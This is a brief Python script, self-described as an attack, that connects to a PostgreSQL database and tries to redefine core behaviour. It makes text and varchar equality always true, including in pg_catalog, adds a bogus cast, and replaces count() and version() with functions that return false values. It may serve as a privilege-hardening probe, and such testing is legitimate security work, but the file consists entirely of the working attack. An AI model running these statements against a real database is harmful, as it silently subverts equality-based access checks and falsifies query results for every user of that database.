import os

import psycopg2


def run(*statements):
    connection = psycopg2.connect(os.environ["DATABASE_URL"])
    connection.autocommit = True
    cursor = connection.cursor()
    for statement in statements:
        try:
            cursor.execute(statement)
        except psycopg2.Error as error:
            print("refused:", str(error).split("\n")[0])
    connection.close()
    print("attack ran")


run(
    "CREATE OR REPLACE FUNCTION public.always(text, text) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT true'",
    "CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = text, FUNCTION = public.always)",
    "CREATE OPERATOR pg_catalog.= (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = public.always)",
    "CREATE CAST (varchar AS text) WITH FUNCTION public.always",
    "CREATE OR REPLACE FUNCTION public.count(anyelement) RETURNS bigint LANGUAGE sql AS 'SELECT 99::bigint'",
    "CREATE OR REPLACE FUNCTION pg_catalog.version() RETURNS text LANGUAGE sql AS 'SELECT 1::text'",
)
